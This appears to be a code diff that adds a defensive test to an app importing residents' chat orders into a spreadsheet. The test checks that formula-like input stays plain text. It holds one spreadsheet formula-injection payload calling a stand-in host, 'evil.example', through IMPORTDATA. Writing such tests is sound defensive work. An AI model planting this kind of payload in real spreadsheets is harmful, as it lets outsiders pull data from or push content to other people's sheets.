@@ -222,6 +222,29 @@ describe('what an import recorded', () => {
   });
 });
 
+describe("residents' text from a chat is data", () => {
+  test('a name that looks like a formula lands in the Orders sheet as text, never a formula', () => {
+    const c = chatCommunity();
+    const evil = '=IMPORTDATA("http://evil.example/x")';
+    const line = {
+      lineNo: 1,
+      name: evil,
+      building: 'Дом 1',
+      flat: '+7 900',
+      phone: '',
+      mode: 'whole' as const,
+      items: [{ itemId: 'EGGS', quantity: '1' }],
+    };
+    c.run('importChatOrders', [{ roundId: c.roundId, lines: [line] }]);
+    const orders = c.ws.spreadsheet.sheet('Заказы')!;
+    const cells = [orders.cell(2, 8), orders.cell(2, 12)];
+    expect(cells.map((cell) => [cell?.formula ?? '', cell?.value])).toEqual([
+      ['', evil],
+      ['', '+7 900'],
+    ]);
+  });
+});
+
 describe('who may import', () => {
   test("a volunteer's paste marks other buildings' lines, and importing one is refused with nothing written", () => {
     const c = chatCommunity();
